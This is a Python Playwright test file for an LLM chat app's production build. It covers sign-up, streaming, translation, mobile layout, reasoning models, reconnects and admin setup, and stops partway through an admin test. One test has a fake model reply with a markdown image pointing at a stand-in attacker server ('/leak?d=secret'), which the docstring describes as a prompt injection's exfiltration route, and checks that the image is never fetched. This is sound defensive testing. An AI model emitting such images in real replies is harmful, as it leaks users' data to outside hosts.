"""End to end in a real browser: the production build of the app, driven by Chromium.

The app runs as ``reflex run --env prod`` in a subprocess (see ``tests/support/app_process.py``)
against a fresh SQLite database, with one provider that points at the loopback
:class:`FakeProvider` in this process. Screenshots land in ``test-output/browser/``.
"""

from __future__ import annotations

import re
import secrets
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    Page,
    ViewportSize,
    expect,
)

from llm_chat.db import create_db_engine, session_scope
from llm_chat.i18n import translate
from llm_chat.models import Role
from llm_chat.security import SecretBox
from llm_chat.services import catalog, users
from llm_chat.services.access import SYSTEM
from tests.fake_provider import (
    FakeProvider,
    ReplySpec,
    generated_reasoning_tokens,
    generated_tokens,
)
from tests.support.app_process import AppConfig, RunningApp, running_app
from tests.support.browser import (
    OUTPUT_DIR,
    FrameRecorder,
    PolicyViolations,
    chromium,
    screenshot,
)
from tests.support.canary import Canary

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PROVIDER_API_KEY = "sk-browser-SECRET-42"
# 150 tokens, 20 ms apart: about three seconds of visible streaming.
REPLY_TOKENS = 150
MODEL_ID = f"fake?tokens={REPLY_TOKENS}&delay=0.02"
MODEL_NAME = "Fake streaming"
REPLY_TEXT = "".join(generated_tokens(REPLY_TOKENS)).strip()
# A reasoning model: 60 tokens of thinking, then the answer, 20 ms apart.
THINKER_NAME = "Fake thinker"
THINKER_ID = "fake?reasoning=60&tokens=40&delay=0.02"
THINKING_TEXT = "".join(generated_reasoning_tokens(60)).strip()
# A long reply: 400 tokens, 20 ms apart (eight seconds).
LONG_NAME = "Fake long"
LONG_TOKENS = 400
LONG_TEXT = "".join(generated_tokens(LONG_TOKENS)).strip()
# A model with a small context window: two long questions do not fit together.
TIGHT_NAME = "Fake tight"
TIGHT_WINDOW = 512
BCRYPT_PREFIX = "$2b$"
TIMEOUT_MS = 30_000
REPLY_TIMEOUT_MS = 90_000
VIEWPORT: ViewportSize = {"width": 1280, "height": 800}

# Keeps every websocket the page opens, so that a test can drop the connection.
_KEEP_SOCKETS = """
window.__sockets = [];
const NativeWebSocket = window.WebSocket;
window.WebSocket = function (...args) {
  const socket = new NativeWebSocket(...args);
  window.__sockets.push(socket);
  return socket;
};
window.WebSocket.prototype = NativeWebSocket.prototype;
Object.assign(window.WebSocket, NativeWebSocket);
"""
# The most question bubbles the page ever showed at once.
_COUNT_USER_MESSAGES = """
window.__mostUserMessages = 0;
new MutationObserver(() => {
  const shown = document.querySelectorAll('.user-message').length;
  window.__mostUserMessages = Math.max(window.__mostUserMessages, shown);
}).observe(document, { childList: true, subtree: true });
"""
# True once a signed-in-only element has been in the DOM of this window; the path the window
# started on shows that the redirect to /login happened inside it (client-side navigation).
_WATCH_PROTECTED = """
window.__protectedSeen = false;
window.__startPath = location.pathname;
new MutationObserver(() => {
  if (document.getElementById('composer') || document.getElementById('sign-out')) {
    window.__protectedSeen = true;
  }
}).observe(document, { childList: true, subtree: true });
"""


@dataclass(frozen=True)
class Account:
    """A user the tests register through the UI."""

    email: str
    password: str
    name: str


def new_account(label: str) -> Account:
    """Fresh credentials; the password is random, so never a common one."""
    token = secrets.token_hex(4)
    return Account(
        email=f"{label}-{token}@example.com",
        password=f"Browser-{secrets.token_urlsafe(12)}",
        name=f"{label.title()} Tester",
    )


@pytest.fixture(scope="module")
def fake_provider() -> Iterator[FakeProvider]:
    """The model provider, checking the API key like a real one."""
    with FakeProvider(api_key=PROVIDER_API_KEY) as provider:
        yield provider


@pytest.fixture(scope="module")
def app(fake_provider: FakeProvider) -> Iterator[RunningApp]:
    """The real app in production mode, seeded with the fake provider and one model."""

    def seed(config: AppConfig) -> None:
        engine = create_db_engine(config.database_url)
        box = SecretBox(config.encryption_key)
        try:
            with session_scope(engine) as session:
                provider = catalog.create_provider.within(
                    session,
                    actor=SYSTEM,
                    name="Loopback",
                    kind="custom",
                    base_url=fake_provider.base_url,
                    api_key=PROVIDER_API_KEY,
                    box=box,
                )
                catalog.create_model.within(
                    session,
                    actor=SYSTEM,
                    provider_id=provider.id,
                    display_name=MODEL_NAME,
                    model_name=MODEL_ID,
                    is_default=True,
                )
                catalog.create_model.within(
                    session,
                    actor=SYSTEM,
                    provider_id=provider.id,
                    display_name=THINKER_NAME,
                    model_name=THINKER_ID,
                )
                catalog.create_model.within(
                    session,
                    actor=SYSTEM,
                    provider_id=provider.id,
                    display_name=LONG_NAME,
                    model_name=f"fake?tokens={LONG_TOKENS}&delay=0.02",
                )
                catalog.create_model.within(
                    session,
                    actor=SYSTEM,
                    provider_id=provider.id,
                    display_name=TIGHT_NAME,
                    model_name="fake?tokens=8",
                    context_window=TIGHT_WINDOW,
                    max_tokens=64,
                )
        finally:
            engine.dispose()

    with running_app(OUTPUT_DIR / "app.log", seed=seed) as running:
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Headless Chromium for the whole module."""
    expect.set_options(timeout=TIMEOUT_MS)
    with chromium() as launched:
        yield launched


NewContext = Callable[..., BrowserContext]


@pytest.fixture(scope="module")
def policy_violations() -> PolicyViolations:
    """The Content-Security-Policy violations of every browser context of the module."""
    return PolicyViolations()


@pytest.fixture(autouse=True)
def no_policy_violations(policy_violations: PolicyViolations) -> Iterator[None]:
    """Every test runs under the app's Content-Security-Policy without a violation."""
    yield
    seen = list(policy_violations.seen)
    policy_violations.seen.clear()
    assert seen == []


@pytest.fixture
def new_context(browser: Browser, policy_violations: PolicyViolations) -> NewContext:
    """Makes browser profiles (``new_context(viewport=..., locale=...)``) whose pages are
    watched for policy violations; the caller closes them."""

    def make(**options: Any) -> BrowserContext:
        ctx = browser.new_context(**options)
        ctx.set_default_timeout(TIMEOUT_MS)
        policy_violations.watch(ctx)
        return ctx

    return make


@pytest.fixture
def context(new_context: NewContext) -> Iterator[BrowserContext]:
    """A fresh browser profile (no token in localStorage), in English."""
    ctx = new_context(viewport=VIEWPORT, locale="en-US")
    try:
        yield ctx
    finally:
        ctx.close()


def register(page: Page, app: RunningApp, account: Account) -> None:
    """Fill in the registration form and wait for the chat."""
    page.goto(app.url + "/register")
    page.locator("#email").fill(account.email)
    page.locator("#display_name").fill(account.name)
    page.locator("#password").fill(account.password)
    page.locator("#password_confirm").fill(account.password)
    page.locator("#register-submit").click()
    expect(page).to_have_url(app.url + "/")
    expect(page.locator("#composer")).to_be_visible()


def sign_in(page: Page, app: RunningApp, account: Account) -> None:
    """Sign in on the login page and wait for the chat."""
    page.goto(app.url + "/login")
    page.locator("#email").fill(account.email)
    page.locator("#password").fill(account.password)
    page.locator("#sign-in-submit").click()
    expect(page).to_have_url(app.url + "/")
    expect(page.locator("#composer")).to_be_visible()


def streaming_length(page: Page) -> int:
    """Characters of the reply on screen so far (0 when the element is gone)."""
    return int(
        page.evaluate("() => (document.getElementById('streaming-text')?.textContent ?? '').length")
    )


def wait_for_streaming_text(page: Page, longer_than: int) -> str:
    """Wait until the streaming reply has more than ``longer_than`` characters; return it."""
    page.wait_for_function(
        """(n) => {
            const el = document.getElementById('streaming-text');
            return el !== null && el.textContent.length > n;
        }""",
        arg=longer_than,
        timeout=REPLY_TIMEOUT_MS,
    )
    return page.locator("#streaming-text").inner_text()


def content_top(page: Page, selector: str) -> float:
    """Where the first element matching ``selector`` starts in the scrolled message list."""
    return float(
        page.evaluate(
            """(selector) => {
                const el = document.querySelector(selector);
                const box = document.getElementById('message-scroll');
                return el.getBoundingClientRect().top + (box ? box.scrollTop : 0);
            }""",
            selector,
        )
    )


def expect_conversation(page: Page, question: str) -> None:
    """The question and the complete reply are on screen."""
    expect(page.locator(".user-message")).to_have_count(1)
    expect(page.locator(".user-message")).to_have_text(question)
    finished = page.locator(".assistant-message:not(.streaming)")
    expect(finished).to_have_count(1)
    expect(finished).to_have_text(REPLY_TEXT)


def test_sign_up_chat_stream_and_reload(
    app: RunningApp, new_context: NewContext, context: BrowserContext, fake_provider: FakeProvider
) -> None:
    """Guarded start page, registration, a streamed reply, and the saved conversation."""
    account = new_account("streamer")
    question = "How do browsers stream text?"
    page = context.new_page()
    page.add_init_script(_WATCH_PROTECTED)
    frames = FrameRecorder(page)

    # Signed out: "/" sends us to sign in; the chat is never rendered, not even briefly.
    page.goto(app.url + "/")
    expect(page).to_have_url(app.url + "/login")
    expect(page.locator("#sign-in-submit")).to_be_visible()
    expect(page.locator("#composer")).not_to_be_visible()
    assert page.evaluate("window.__startPath") == "/"
    assert page.evaluate("window.__protectedSeen") is False
    screenshot(page, "01-login")

    # Register through the link on the sign-in page.
    page.get_by_role("link", name="Create account").click()
    expect(page).to_have_url(app.url + "/register")
    page.locator("#email").fill(account.email)
    page.locator("#display_name").fill(account.name)
    page.locator("#password").fill(account.password)
    page.locator("#password_confirm").fill(account.password)
    screenshot(page, "02-register")
    page.locator("#register-submit").click()
    expect(page).to_have_url(app.url + "/")
    expect(page.locator("#composer")).to_be_visible()
    expect(page.locator("#model-picker")).to_contain_text(MODEL_NAME)
    screenshot(page, "03-new-chat")

    # Send with Enter; the reply streams in while Stop is offered.
    page.locator("#composer").fill(question)
    page.locator("#composer").press("Enter")
    expect(page.locator("#stop-button")).to_be_visible()
    first = wait_for_streaming_text(page, 0)
    assert len(first) < len(REPLY_TEXT), "the whole reply arrived at once: nothing streamed"
    expect(page.locator("#stop-button")).to_be_visible()
    streaming_top = content_top(page, "#streaming-text")
    screenshot(page, "04-streaming")
    second = wait_for_streaming_text(page, len(first))
    assert len(second) > len(first)
    assert REPLY_TEXT.startswith(second.strip())

    # Done: the reply is a finished message with the whole text; Send is back.
    expect(page.locator("#streaming-text")).to_have_count(0, timeout=REPLY_TIMEOUT_MS)
    expect(page.locator("#send-button")).to_be_visible()
    expect(page.locator("#stop-button")).to_have_count(0)
    expect_conversation(page, question)
    # The finished reply replaces the streaming text in place (no jump by a paragraph margin).
    assert abs(content_top(page, ".assistant-message:not(.streaming) p") - streaming_top) < 2
    expect(page).to_have_url(re.compile(r"/c/\d+$"))
    conversation_url = page.url
    entries = page.locator("#conversation-list .conversation-entry")
    expect(entries).to_have_count(1)
    expect(entries.first).to_contain_text(question)
    expect(entries.first.locator("a")).to_have_attribute(
        "href", conversation_url.removeprefix(app.url)
    )
    screenshot(page, "05-done")

    # The provider got the question with our key; the browser never got the key or a hash.
    request = fake_provider.last_request
    assert request is not None
    assert request.model == MODEL_ID
    assert {"role": "user", "content": question} in request.messages
    assert request.text_sent.strip() == REPLY_TEXT
    assert frames.received, "no websocket frames recorded"
    assert frames.received_containing(REPLY_TEXT[:40]), "the reply never came over the socket"
    assert not frames.received_containing(BCRYPT_PREFIX)
    assert not frames.received_containing(PROVIDER_API_KEY)
    assert not any(PROVIDER_API_KEY in frame for frame in frames.sent)

    # Reload: the conversation comes back from the database, each message once (never two
    # copies of the last turn, not even for one frame).
    page.add_init_script(_COUNT_USER_MESSAGES)
    page.reload()
    expect(page).to_have_url(conversation_url)
    expect_conversation(page, question)
    page.wait_for_timeout(500)
    assert page.evaluate("window.__mostUserMessages") == 1
    expect(entries).to_have_count(1)
    screenshot(page, "06-reloaded")
    assert not frames.received_containing(BCRYPT_PREFIX)
    assert not frames.received_containing(PROVIDER_API_KEY)

    # Another browser profile: sign in again and open the conversation by its URL.
    other = new_context(viewport=VIEWPORT, locale="en-US")
    try:
        other_page = other.new_page()
        other_page.goto(conversation_url)
        expect(other_page).to_have_url(app.url + "/login")
        sign_in(other_page, app, account)
        other_page.goto(conversation_url)
        expect_conversation(other_page, question)
        expect(other_page.locator("#conversation-list .conversation-entry")).to_have_count(1)
        screenshot(other_page, "07-other-browser")
    finally:
        other.close()


def test_wrong_password_shows_translated_error(app: RunningApp, context: BrowserContext) -> None:
    """A wrong password keeps the visitor on the sign-in page with a clear message."""
    account = new_account("forgetful")
    page = context.new_page()
    register(page, app, account)
    page.locator("#sign-out").click()
    expect(page).to_have_url(app.url + "/login")

    page.locator("#email").fill(account.email)
    page.locator("#password").fill(account.password + "-wrong")
    page.locator("#sign-in-submit").click()
    expect(page.locator("#error-callout")).to_have_text(translate("en", "auth.bad_credentials"))
    expect(page).to_have_url(app.url + "/login")
    expect(page.locator("#composer")).to_have_count(0)
    screenshot(page, "08-wrong-password")


def test_chinese_and_dark_mode(app: RunningApp, context: BrowserContext) -> None:
    """Switching to 简体中文 translates the UI; the dark theme keeps it readable."""
    account = new_account("polyglot")
    page = context.new_page()
    page.goto(app.url + "/register")
    expect(page.locator("#register-submit")).to_have_text(translate("en", "auth.register"))

    page.get_by_role("combobox", name=translate("en", "app.language")).click()
    page.get_by_role("option", name="简体中文").click()
    expect(page.locator("#register-submit")).to_have_text(translate("zh-CN", "auth.register"))

    page.locator("#email").fill(account.email)
    page.locator("#display_name").fill("测试用户")
    page.locator("#password").fill(account.password)
    page.locator("#password_confirm").fill(account.password)
    page.locator("#register-submit").click()
    expect(page).to_have_url(app.url + "/")
    expect(page.locator("#send-button")).to_have_text(translate("zh-CN", "chat.send"))
    assert translate("zh-CN", "chat.send") == "发送"
    expect(page.get_by_text(translate("zh-CN", "chat.new_chat"))).to_be_visible()

    question = "你好，请介绍一下你自己。"
    page.locator("#composer").fill(question)
    page.locator("#composer").press("Enter")
    expect(page.locator("#stop-button")).to_have_text(translate("zh-CN", "chat.stop"))
    expect(page.locator("#streaming-text")).to_have_count(0, timeout=REPLY_TIMEOUT_MS)
    expect_conversation(page, question)
    screenshot(page, "09-zh-CN")

    page.get_by_role("button", name=translate("zh-CN", "app.toggle_theme")).click()
    expect(page.locator("html")).to_have_class(re.compile(r"\bdark\b"))
    page.mouse.move(640, 400)  # away from the toggle, so its tooltip is not in the picture
    screenshot(page, "10-dark")

    # The choice of language survives a reload (it is kept in this browser).
    page.reload()
    expect(page.locator("#send-button")).to_have_text("发送")


def test_phone_layout_rename_and_delete(
    app: RunningApp, new_context: NewContext, fake_provider: FakeProvider
) -> None:
    """On a phone the chat gets the full width; the sidebar opens over it to rename and delete."""
    phone = new_context(viewport={"width": 390, "height": 844}, locale="en-US")
    try:
        page = phone.new_page()
        register(page, app, new_account("phone"))
        send = page.locator("#send-button")
        box = send.bounding_box()
        assert box is not None
        assert box["x"] + box["width"] <= 390  # the send button is on screen
        expect(page.locator("#sidebar")).to_be_hidden()
        # The empty chat's hint keeps off the screen's edges (once the styles have loaded).
        page.wait_for_function(
            """() => {
                const hint = document.querySelector('#empty-chat p');
                if (!hint) return false;
                const box = hint.getBoundingClientRect();
                return box.left >= 16 && box.right <= 390 - 16;
            }"""
        )

        question = "Short question from a phone"
        finished = page.locator(".assistant-message:not(.streaming)")
        # A reply with a table: its cells have borders and room.
        fake_provider.enqueue(
            ReplySpec(text="Here:\n\n| Tea | Minutes |\n|---|---|\n| Green | 2 |\n| Black | 4 |")
        )
        page.locator("#composer").fill(question)
        page.locator("#composer").press("Enter")
        # (right after Enter the reply has not started: wait for the finished message)
        expect(finished).to_have_count(1, timeout=REPLY_TIMEOUT_MS)
        cell = finished.locator("td").first
        expect(cell).to_have_text("Green")
        expect(cell).to_have_css("border-top-style", "solid")
        expect(cell).to_have_css("padding-left", re.compile(r"^(?:[89]|[1-9]\d)(?:\.\d+)?px$"))
        expect(page.locator("#streaming-text")).to_have_count(0)
        # A second turn joins the first (the browser appends it; the history is not re-sent).
        page.locator("#composer").fill("And a follow-up")
        page.locator("#composer").press("Enter")
        expect(finished).to_have_count(2, timeout=REPLY_TIMEOUT_MS)
        expect(page.locator("#streaming-text")).to_have_count(0)
        expect(page.locator(".assistant-message")).to_have_count(2)
        expect(page.locator(".user-message")).to_have_text([question, "And a follow-up"])
        screenshot(page, "11-phone")

        page.locator("#sidebar-toggle").click()
        expect(page.locator("#sidebar")).to_be_visible()
        entry = page.locator(".conversation-entry").filter(has_text=question)
        expect(entry).to_have_count(1)
        screenshot(page, "12-phone-sidebar")

        entry.get_by_role("button", name=translate("en", "chat.menu")).click()
        page.get_by_role("menuitem", name=translate("en", "chat.rename")).click()
        page.locator("#rename-input").fill("Renamed on the phone")
        page.locator("#rename-save").click()
        renamed = page.locator(".conversation-entry").filter(has_text="Renamed on the phone")
        expect(renamed).to_have_count(1)

        renamed.get_by_role("button", name=translate("en", "chat.menu")).click()
        page.get_by_role("menuitem", name=translate("en", "chat.delete")).click()
        expect(page.get_by_text(translate("en", "chat.delete_warning"))).to_be_visible()
        page.locator("#delete-confirm").click()
        expect(page).to_have_url(app.url + "/")
        expect(page.locator(".conversation-entry")).to_have_count(0)
        expect(page.get_by_text(translate("en", "chat.empty_title"))).to_be_visible()
    finally:
        phone.close()


def pick_model(page: Page, name: str) -> None:
    """Choose a model in the dropdown."""
    page.locator("#model-picker").click()
    page.get_by_role("option", name=name).click()
    expect(page.locator("#model-picker")).to_contain_text(name)


@pytest.mark.parametrize("language", ["en", "zh-CN"])
def test_thinking_model_and_context_note(
    app: RunningApp, new_context: NewContext, fake_provider: FakeProvider, language: str
) -> None:
    """A reasoning model's thinking streams into an open panel, then folds above the answer;
    a reply says which model wrote it, and when earlier messages were left out."""
    ctx = new_context(viewport=VIEWPORT, locale=language)
    try:
        page = ctx.new_page()
        register(page, app, new_account(f"thinker-{language.lower()}"))
        pick_model(page, THINKER_NAME)
        page.locator("#composer").fill("Is a verbal contract binding?")
        page.locator("#composer").press("Enter")
        page.wait_for_function(
            "() => (document.getElementById('streaming-thought')?.textContent ?? '').length > 20",
            timeout=REPLY_TIMEOUT_MS,
        )
        thinking = page.locator(".streaming .thinking")
        expect(thinking).to_have_attribute("open", "")
        screenshot(page, f"13-thinking-streaming-{language}")
        expect(page.locator("#streaming-text")).to_have_count(0, timeout=REPLY_TIMEOUT_MS)

        # Finished: the thinking is folded above the answer; a click opens it.
        folded = page.locator(".assistant-turn .thinking")
        expect(folded).to_have_count(1)
        expect(folded).not_to_have_attribute("open", "")
        expect(folded.locator(".thinking-body")).to_be_hidden()
        folded.locator(".thinking-summary").click()
        expect(folded.locator(".thinking-body")).to_have_text(THINKING_TEXT)
        answer = page.locator(".assistant-message:not(.streaming)")
        expect(answer).to_have_text("".join(generated_tokens(40)).strip())
        written_by = f"{translate(language, 'chat.reply_by')} {THINKER_NAME} · Loopback"
        expect(page.locator(".assistant-turn")).to_have_attribute("title", written_by)
        # The thinking was never sent back: the provider got only the question.
        assert fake_provider.last_request is not None
        assert THINKING_TEXT[:20] not in str(fake_provider.last_request.messages)
        screenshot(page, f"14-thinking-done-{language}")

        # The same panel and answer after a reload (stored apart from the answer).
        page.reload()
        expect(page.locator(".assistant-turn .thinking")).to_have_count(1)
        expect(answer).to_have_text("".join(generated_tokens(40)).strip())

        # A model with a small window: the second long question leaves the first turn out.
        pick_model(page, TIGHT_NAME)
        long_question = "Please review this clause. " + "The tenant shall keep the premises. " * 30
        finished = page.locator(".assistant-message:not(.streaming)")
        for count in (2, 3):
            page.locator("#composer").fill(long_question)
            page.locator("#composer").press("Enter")
            expect(finished).to_have_count(count, timeout=REPLY_TIMEOUT_MS)
            expect(page.locator("#streaming-text")).to_have_count(0, timeout=REPLY_TIMEOUT_MS)
        notes = page.locator(".context-note")
        expect(notes).to_have_count(1)
        expect(notes).to_have_text(translate(language, "chat.context_dropped"))
        assert fake_provider.last_request is not None
        assert [m["role"] for m in fake_provider.last_request.messages] == ["user"]
        notes.scroll_into_view_if_needed()
        screenshot(page, f"15-context-note-{language}")
    finally:
        ctx.close()


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    """A loopback listener standing in for an attacker's server."""
    with Canary() as listener:
        yield listener


def test_images_in_replies_are_never_fetched(
    app: RunningApp, context: BrowserContext, fake_provider: FakeProvider, canary: Canary
) -> None:
    """A reply's markdown image (a prompt injection's way out) shows as a link and is never
    loaded, neither when the reply ends nor on a reload; links open in a new tab; the pages
    (chat, settings, admin) carry the security headers and run under them."""
    account = new_account("exfiltrated")
    page = context.new_page()
    register(page, app, account)
    leak = f"{canary.url}/leak?d=secret"
    host = canary.url.removeprefix("http://")
    fake_provider.enqueue(
        ReplySpec(
            text=(
                f"Here is your chart:\n\n![leak]({leak})\n\nSee [the source]({canary.url}/page)."
                "\n\nAnd a dot: ![](data:image/gif;base64,R0lGODlhAQABAAAAACw=)"
            ),
            delay=0.01,
        )
    )
    page.locator("#composer").fill("Draw me a chart")
    page.locator("#composer").press("Enter")
    expect(page.locator("#stop-button")).to_have_count(0, timeout=REPLY_TIMEOUT_MS)
    reply = page.locator(".assistant-message:not(.streaming)")
    expect(reply).to_have_count(1)

    def expect_safe_reply() -> None:
        placeholder = reply.locator("a.image-link")
        expect(placeholder).to_have_text(f"leak — {host}")
        expect(placeholder).to_have_accessible_name(
            f"{translate('en', 'chat.image')}: leak — {host}"
        )
        expect(placeholder.locator("svg")).to_have_count(1)  # the icon
        expect(placeholder).to_have_attribute("href", leak)
        expect(placeholder).to_have_attribute("target", "_blank")
        expect(placeholder).to_have_attribute("rel", "noopener noreferrer")
        expect(placeholder).to_have_attribute(
            "title", f"{translate('en', 'chat.image_not_loaded')} {leak}"
        )
        link = reply.get_by_role("link", name="the source")
        expect(link).to_have_attribute("target", "_blank")
        expect(link).to_have_attribute("rel", "noopener noreferrer")
        # An image without alt text, whose URL react-markdown refuses (not http(s)): no link.
        expect(reply.locator("span.image-link")).to_have_text(translate("en", "chat.image"))
        expect(reply.locator("img")).to_have_count(0)
        page.wait_for_load_state("networkidle")
        assert canary.paths == []

    expect_safe_reply()
    placeholder = reply.locator("a.image-link")
    placeholder.hover()
    screenshot(page, "16-image-placeholder")

    # A reload renders the saved reply from the database: still nothing is fetched.
    response = page.reload()
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "img-src 'self' data: blob:" in policy
    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    expect_safe_reply()

    # The other pages run under the same policy (the fixture checks for violations).
    page.locator("#settings-link").click()
    expect(page).to_have_url(app.url + "/settings")
    expect(page.locator("#api-key-name")).to_be_visible()
    engine = create_db_engine(app.config.database_url)
    try:
        with session_scope(engine) as session:
            users.set_role.within(session, email=account.email, role=Role.ADMIN)
    finally:
        engine.dispose()
    page.goto(app.url + "/admin")
    expect(page.locator("#add-provider")).to_be_visible()
    expect(page.get_by_text(MODEL_NAME)).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert canary.paths == []


def test_a_reconnect_keeps_the_tab_in_its_conversation(
    app: RunningApp, new_context: NewContext, fake_provider: FakeProvider
) -> None:
    """A conversation started in the tab survives a dropped connection: the tab stays in it,
    and the next message goes on in it."""
    ctx = new_context(viewport=VIEWPORT, locale="en-US")
    try:
        page = ctx.new_page()
        page.add_init_script(_KEEP_SOCKETS)
        register(page, app, new_account("reconnect"))
        page.locator("#composer").fill("First question")
        page.locator("#composer").press("Enter")
        expect(page.locator(".assistant-message:not(.streaming)")).to_have_count(
            1, timeout=REPLY_TIMEOUT_MS
        )
        expect(page).to_have_url(re.compile(r"/c/\d+$"))
        address = page.url

        # The connection drops: the socket reconnects by itself and the page hydrates again.
        page.evaluate("() => window.__sockets.forEach((ws) => ws.close())")
        page.wait_for_function(
            "() => window.__sockets.filter((ws) => ws.readyState === 1).length > 0"
            " && window.__sockets.length > 1",
            timeout=TIMEOUT_MS,
        )
        page.wait_for_timeout(1000)
        expect(page).to_have_url(address)
        expect(page.locator(".user-message")).to_have_text(["First question"])
        expect(page.locator(".assistant-message:not(.streaming)")).to_have_count(1)

        page.locator("#composer").fill("Second question")
        page.locator("#composer").press("Enter")
        expect(page.locator(".assistant-message:not(.streaming)")).to_have_count(
            2, timeout=REPLY_TIMEOUT_MS
        )
        expect(page).to_have_url(address)
        expect(page.locator("#conversation-list .conversation-entry")).to_have_count(1)
        assert fake_provider.last_request is not None
        assert fake_provider.last_request.messages[0]["content"] == "First question"
        screenshot(page, "16-after-reconnect")
    finally:
        ctx.close()


def test_the_settings_page_links_to_the_api_docs(app: RunningApp, context: BrowserContext) -> None:
    """The docs link works in the production build (one port for pages and back end)."""
    page = context.new_page()
    register(page, app, new_account("docs"))
    page.goto(app.url + "/settings")
    link = page.locator("#api-docs-link")
    expect(link).to_be_visible()
    href = link.get_attribute("href")
    assert href is not None
    assert href.endswith("/api/docs")
    docs = page.request.get(href)
    assert docs.status == 200
    assert "swagger" in docs.text().lower()


def test_a_reload_mid_reply_shows_the_text_so_far_at_once(
    app: RunningApp, context: BrowserContext
) -> None:
    """The reply so far is back as soon as the page is, and goes on streaming."""
    page = context.new_page()
    register(page, app, new_account("reloader"))
    page.locator("#composer").fill("A long answer, please")
    page.locator("#composer").press("Enter")
    before = wait_for_streaming_text(page, 100)
    page.reload(wait_until="domcontentloaded")
    reloaded = time.monotonic()
    # Within a second of the page's load, and longer than before the reload.
    page.wait_for_function(
        "(n) => (document.getElementById('streaming-text')?.textContent ?? '').length > n",
        arg=len(before),
        timeout=5_000,
    )
    assert time.monotonic() - reloaded < 2.0
    now = page.locator("#streaming-text").inner_text()
    assert REPLY_TEXT.startswith(now.strip())
    finished = page.locator(".assistant-message:not(.streaming)")
    expect(finished).to_have_count(1, timeout=REPLY_TIMEOUT_MS)
    expect(finished).to_have_text(REPLY_TEXT)


def test_a_reply_streams_on_while_the_user_asks_elsewhere_and_shows_in_any_tab(
    app: RunningApp, context: BrowserContext
) -> None:
    """Leaving a conversation whose reply streams frees the composer elsewhere; coming back,
    or opening it in a second tab, shows the reply live."""
    page = context.new_page()
    register(page, app, new_account("elsewhere"))
    pick_model(page, LONG_NAME)
    page.locator("#composer").fill("Write at length")
    page.locator("#composer").press("Enter")
    wait_for_streaming_text(page, 40)
    expect(page).to_have_url(re.compile(r"/c/\d+$"))
    first = page.url

    # A new chat: no Stop button, and a question there is answered while the first streams.
    page.locator("#new-chat").click()
    expect(page.locator("#empty-chat")).to_be_visible()
    expect(page.locator("#stop-button")).to_have_count(0)
    pick_model(page, MODEL_NAME)
    page.locator("#composer").fill("A quick one meanwhile")
    page.locator("#composer").press("Enter")
    expect(page.locator(".assistant-message:not(.streaming)")).to_have_text(
        [REPLY_TEXT], timeout=REPLY_TIMEOUT_MS
    )

    # A second tab on the first conversation shows the reply being written.
    second = context.new_page()
    second.goto(first)
    shown = wait_for_streaming_text(second, 40)
    expect(second.locator("#stop-button")).to_be_visible()
    expect(second.locator(".user-message")).to_have_text(["Write at length"])
    screenshot(second, "17-second-tab-follows-a-reply")
    wait_for_streaming_text(second, len(shown) + 20)  # and it goes on

    # Back in the first tab's first conversation: live too, then finished in both.
    page.locator("#conversation-list .conversation-entry").last.click()
    expect(page).to_have_url(first)
    for tab in (page, second):
        expect(tab.locator(".assistant-message:not(.streaming)")).to_have_text(
            [LONG_TEXT], timeout=REPLY_TIMEOUT_MS
        )
        expect(tab.locator("#stop-button")).to_have_count(0)
    second.close()


def test_a_user_renames_themselves_and_changes_the_password(
    app: RunningApp, context: BrowserContext
) -> None:
    """The settings page's account section; the new password is the one that signs in."""
    account = new_account("account")
    page = context.new_page()
    register(page, app, account)
    page.goto(app.url + "/settings")
    expect(page.locator("#account-email")).to_have_text(account.email)
    page.locator("#profile-name").fill("Renamed Person")
    page.locator("#profile-save").click()
    expect(page.get_by_text("Your name was saved.")).to_be_visible()

    new_password = f"Changed-{secrets.token_urlsafe(10)}"
    page.locator("#current-password").fill(account.password)
    page.locator("#new-password").fill(new_password)
    page.locator("#new-password-confirm").fill(new_password)
    page.locator("#password-save").click()
    expect(page.get_by_text("Your password was changed.", exact=False)).to_be_visible()
    expect(page.locator("#new-password")).to_have_value("")
    screenshot(page, "18-settings-account")

    page.goto(app.url + "/")  # still signed in, under the new name
    expect(page.locator("#composer")).to_be_visible()
    expect(page.get_by_text("Renamed Person")).to_be_visible()
    page.locator("#sign-out").click()
    expect(page).to_have_url(app.url + "/login")
    sign_in(page, app, Account(account.email, new_password, account.name))


def _promote(app: RunningApp, email: str) -> None:
    """Make the account an admin, as ``make admin`` would."""
    engine = create_db_engine(app.config.database_url)
    try:
        with session_scope(engine) as session:
            users.set_role.within(session, email=email, role=Role.ADMIN)
    finally:
        engine.dispose()


def _admin_shot(page: Page, name: str, *, dialog: bool = False) -> None:
    """A screenshot of the admin page, away from any tooltip; of the window only when a
    dialog is open (its overlay covers the window, not the whole page)."""
    page.mouse.move(5, 5)
    page.wait_for_timeout(300)  # dialogs and tooltips finish their animations
    if dialog:
        OUTPUT_DIR.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(OUTPUT_DIR / f"admin-{name}.png"))
    else:
        screenshot(page, f"admin-{name}")


def test_an_admin_adds_a_provider_tests_it_and_imports_models(
    app: RunningApp, new_context: NewContext, fake_provider: FakeProvider
) -> None:
    """Test a new provider's values before adding it, add it, import the models its test
    listed, edit (a test of a new URL keeps the stored key home), and read the audit log, in
    both languages and themes; the key is never sent to the browser."""
    account = new_account("operator")
    ctx = new_context(viewport={"width": 1280, "height": 900}, locale="en-US")
    page = ctx.new_page()
    frames = FrameRecorder(page)
    register(page, app, account)
    _promote(app, account.email)
    page.goto(app.url + "/admin")
    expect(page.locator("#providers-table")).to_contain_text("Loopback")

    page.locator("#provider-kind").click()
    page.get_by_role("option", name="Custom").click()
    page.locator("#provider-name").fill("Second loopback")
    page.locator("#provider-base-url").fill(fake_provider.base_url)
    page.locator("#provider-api-key").fill(PROVIDER_API_KEY)
    # Test connection before saving: the form's values, nothing saved yet.
    page.locator("#check-new-provider").click()
    expect(page.locator("#check-new-models")).to_have_text(translate("en", "admin.check_ok"))
    expect(page.locator("#check-new-completion")).to_have_text(translate("en", "admin.check_ok"))
    expect(page.locator("#check-new-listed")).to_contain_text("3")
